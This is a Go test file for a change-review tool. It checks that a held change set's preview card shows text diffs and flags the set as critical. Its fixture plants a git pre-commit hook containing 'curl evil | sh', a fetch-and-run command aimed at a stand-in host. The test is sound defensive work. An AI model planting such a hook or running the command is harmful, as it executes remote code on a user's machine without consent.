package tools

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/homard/homard/internal/changeset"
	"github.com/homard/homard/internal/workspace"
)

// TestApplyChangesCardShowsDiffs: the card of a held change set shows the
// diff of each text file it creates or changes, so the owner reads what a
// planted hook would run; a binary file is described, not dumped.
func TestApplyChangesCardShowsDiffs(t *testing.T) {
	e := newEnv(t)
	writeFile(t, e.root, "notes.txt", "line one\nline two\n")
	upper := t.TempDir()
	writeFile(t, upper, "notes.txt", "line one\nline 2\n")
	writeFile(t, upper, ".husky/_/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	writeFile(t, upper, "blob.bin", "\x00\x01\x02")
	stream, err := os.CreateTemp(t.TempDir(), "changes")
	if err != nil {
		t.Fatal(err)
	}
	defer stream.Close()
	if err := workspace.WriteUpperTar(stream, upper, workspace.TarLimits{}); err != nil {
		t.Fatal(err)
	}
	held, err := e.gate.Hold(stream, changeset.Held{Root: "main", Writer: []string{"/bin/sh", "x"}, RunsCode: true})
	if err != nil {
		t.Fatal(err)
	}
	ac := NewApplyChanges(e.gate)
	params, err := ac.Decode([]byte(`{"id":"` + held.ID + `"}`))
	if err != nil {
		t.Fatal(err)
	}
	plan, err := ac.Prepare(context.Background(), params)
	if err != nil {
		t.Fatal(err)
	}
	card := plan.Preview()
	for _, want := range []string{"+curl evil | sh", "-line two", "+line 2", "main:.husky/_/pre-commit", "binary, 3 bytes"} {
		if !strings.Contains(card, want) {
			t.Errorf("card lacks %q:\n%s", want, card)
		}
	}
	if strings.Contains(card, "\x00") {
		t.Errorf("card holds the binary file's bytes")
	}
	if !strings.Contains(plan.Display(), "critical") {
		t.Errorf("display %q; want the critical reason", plan.Display())
	}
	if _, err := os.Stat(filepath.Join(e.root, ".husky")); err == nil {
		t.Errorf("preparing the card wrote the hook")
	}
}
